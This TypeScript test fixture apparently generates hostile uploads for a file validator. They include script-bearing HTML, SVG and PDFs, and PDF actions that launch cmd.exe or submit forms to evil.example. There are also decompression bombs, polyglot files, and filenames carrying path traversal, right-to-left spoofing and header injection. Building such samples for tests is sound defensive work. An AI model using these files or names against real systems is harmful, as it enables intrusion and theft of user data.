import { deflateSync } from "node:zlib"
import sharp from "sharp"
import type { FileFault } from "@/lib/platform/file-fault"
import { hugeJpeg, hugePng, jpegFile, pngFile, pngWith } from "./image-files"
import { packedPdf, pdfFile, streamOf } from "./pdf-files"

export type Hostile = { what: string; name: string; bytes: Buffer; fault: FileFault }

const html = Buffer.from("<!doctype html><script>alert(document.cookie)</script>")
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
const script = "<< /S /JavaScript /JS (app.alert(1)) >>"

/** An archive as programs find it: by its end. With a comment it may stand in the middle of something else. */
function archive(name = "word/vbaProject.bin", comment = 0): Buffer {
  const local = Buffer.concat([Buffer.from("PK\u0003\u0004"), Buffer.alloc(26), Buffer.from(name)])
  local.writeUInt16LE(name.length, 26)
  const entry = Buffer.concat([Buffer.from("PK\u0001\u0002"), Buffer.alloc(42), Buffer.from(name)])
  entry.writeUInt16LE(name.length, 28)
  const end = Buffer.concat([Buffer.from("PK\u0005\u0006"), Buffer.alloc(18)])
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(entry.length, 12)
  end.writeUInt32LE(local.length, 16)
  end.writeUInt16LE(comment, 20)
  return Buffer.concat([local, entry, end])
}

/** A PDF in a comment of an archive, which is in a comment of the PDF. */
function pdfInArchive(): Buffer {
  const marked = pdfFile({ more: [streamOf("HERE")] })
  const at = marked.indexOf("HERE")
  const rest = marked.subarray(at + 4)
  return Buffer.concat([marked.subarray(0, at), archive("x", rest.length), rest])
}

const annotation = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`
const pdf = (what: string, bytes: Buffer, fault: FileFault): Hostile => ({
  what,
  name: "paper.pdf",
  bytes,
  fault,
})

function pdfs(): Hostile[] {
  const hidden = `9 0 obj ${script} endobj`
  const bomb = deflateSync(Buffer.alloc(80 * 1024 * 1024))
  return [
    pdf("data before the PDF", pdfFile({ before: "MZ\x90" }), "otherType"),
    pdf("an archive behind the PDF", pdfFile({ after: archive() }), "twoInOne"),
    pdf("an archive within the PDF", pdfInArchive(), "twoInOne"),
    pdf("a page of a browser at the start", pdfFile({ aside: `%${html}` }), "twoInOne"),
    pdf("a script when it opens", pdfFile({ catalog: `/OpenAction ${script}` }), "pdfScript"),
    pdf(
      "a script under a disguised name",
      pdfFile({ more: ["<< /S /J#61vaScript /#4aS (app.alert(1)) >>"] }),
      "pdfScript",
    ),
    pdf("a script among packed objects", packedPdf("/OpenAction 4 0 R", [script]), "pdfScript"),
    pdf("an act for each page", pdfFile({ page: "/AA << /O << /S /Named /N /Print >> >>" }), "pdfScript"),
    pdf("a program to start", pdfFile({ page: annotation("<< /S /Launch /F (cmd.exe) >>") }), "pdfOpens"),
    pdf(
      "an address that opens by itself",
      pdfFile({ catalog: "/OpenAction << /S /URI /URI (https://evil.example) >>" }),
      "pdfOpens",
    ),
    pdf(
      "a form that is sent away",
      pdfFile({ page: annotation("<< /S /SubmitForm /F (https://evil.example) >>") }),
      "pdfOpens",
    ),
    pdf(
      "a file of a stranger's server",
      pdfFile({ page: annotation("<< /S /GoToR /F (\\\\\\\\evil\\\\x) >>") }),
      "pdfOpens",
    ),
    pdf("a file within", pdfFile({ more: [streamOf("MZ", "/Type /EmbeddedFile")] }), "pdfEmbeds"),
    pdf(
      "a film within",
      pdfFile({ page: "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]" }),
      "pdfEmbeds",
    ),
    pdf("an object within a stream", pdfFile({ more: [streamOf(hidden)] }), "pdfEmbeds"),
    pdf("an object within a text", pdfFile({ more: [`(${hidden})`] }), "pdfEmbeds"),
    pdf("an object behind a false stream", pdfFile({ more: [`<< /A stream ${script} >>`] }), "pdfScript"),
    pdf(
      "a form of its own kind",
      pdfFile({ catalog: "/AcroForm << /XFA 5 0 R >>", more: [streamOf("<xdp/>")] }),
      "pdfForm",
    ),
    pdf(
      "a password",
      pdfFile({ trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O (x) /U (x) >>" }),
      "pdfLocked",
    ),
    pdf(
      "a stream that unpacks to fill a memory",
      pdfFile({ more: [streamOf(bomb, "/Filter /FlateDecode")] }),
      "pdfPacked",
    ),
    pdf(
      "a stream packed twice",
      pdfFile({ more: [streamOf(deflateSync(bomb), "/Filter [/FlateDecode /FlateDecode]")] }),
      "pdfPacked",
    ),
    pdf(
      "a stream that says elsewhere how it is packed",
      pdfFile({ more: [streamOf(bomb, "/Filter 6 0 R"), "/FlateDecode"] }),
      "pdfPacked",
    ),
    pdf("half a PDF", pdfFile().subarray(0, 300), "pdfDamaged"),
    pdf("nothing but a head and an end", Buffer.from("%PDF-1.7\n%%EOF\n"), "pdfDamaged"),
  ]
}

async function images(): Promise<Hostile[]> {
  const [png, jpeg] = [await pngFile(), await jpegFile()]
  const broken = Buffer.from(png)
  broken.fill(0, broken.indexOf("IDAT") + 6, broken.indexOf("IDAT") + 30)
  return [
    {
      what: "an archive behind a picture",
      name: "me.png",
      bytes: Buffer.concat([png, archive()]),
      fault: "twoInOne",
    },
    {
      what: "a program behind a picture",
      name: "me.jpg",
      bytes: Buffer.concat([jpeg, archive("Main.class")]),
      fault: "twoInOne",
    },
    {
      what: "a picture of ten thousand million points",
      name: "me.png",
      bytes: hugePng(100_000),
      fault: "imageHuge",
    },
    {
      what: "a photo of four thousand million points",
      name: "me.jpg",
      bytes: await hugeJpeg(65_000),
      fault: "imageHuge",
    },
    {
      what: "a picture that moves",
      name: "me.png",
      bytes: await pngWith("acTL", Buffer.alloc(8)),
      fault: "imageAnimated",
    },
    { what: "half a photo", name: "me.jpg", bytes: jpeg.subarray(0, jpeg.length / 2), fault: "imageDamaged" },
    { what: "a picture with a hole", name: "me.png", bytes: broken, fault: "imageDamaged" },
    {
      what: "a mark of a photo and nothing else",
      name: "me.jpg",
      bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      fault: "imageDamaged",
    },
    {
      what: "another kind of picture",
      name: "me.png",
      bytes: await sharp(png).gif().toBuffer(),
      fault: "otherType",
    },
    {
      what: "a third kind of picture",
      name: "me.jpg",
      bytes: await sharp(png).webp().toBuffer(),
      fault: "otherType",
    },
    { what: "a drawing with a script", name: "me.svg", bytes: svg, fault: "wrongType" },
    { what: "a drawing that says it is a photo", name: "me.png", bytes: svg, fault: "otherType" },
  ]
}

function others(): Hostile[] {
  const program = Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1")
  const fine = pdfFile()
  const named = (what: string, name: string, fault: FileFault) => ({ what, name, bytes: fine, fault })
  return [
    { what: "a text with macros", name: "agreement.docm", bytes: archive(), fault: "wrongType" },
    {
      what: "a text with macros that says it is a PDF",
      name: "agreement.pdf",
      bytes: archive(),
      fault: "otherType",
    },
    { what: "a program that says it is a PDF", name: "agreement.pdf", bytes: program, fault: "otherType" },
    {
      what: "a page of a browser that says it is a picture",
      name: "me.png",
      bytes: html,
      fault: "otherType",
    },
    { what: "a PDF that says it is a photo", name: "me.jpg", bytes: fine, fault: "otherType" },
    { what: "nothing", name: "paper.pdf", bytes: Buffer.alloc(0), fault: "empty" },
    named("a program behind a PDF's name", "paper.pdf.exe", "wrongType"),
    named("a way up the folders", "../../../etc/cron.d/paper.pdf", "nameWithPath"),
    named("a way of another system", "..\\..\\Startup\\paper.pdf", "nameWithPath"),
    named("a name that reads backwards", "paper\u202Efdp.exe.pdf", "nameStrange"),
    named("a name with an end in it", "paper\0.exe.pdf", "nameStrange"),
    named("a name with another line in it", "paper\r\nSet-Cookie: x=y.pdf", "nameStrange"),
    named("a name without an end", `${"a".repeat(200)}.pdf`, "nameTooLong"),
  ]
}

/** Made here and now: nobody's attack is kept in a file. */
export async function hostileFiles(): Promise<Hostile[]> {
  return [...pdfs(), ...(await images()), ...others()]
}
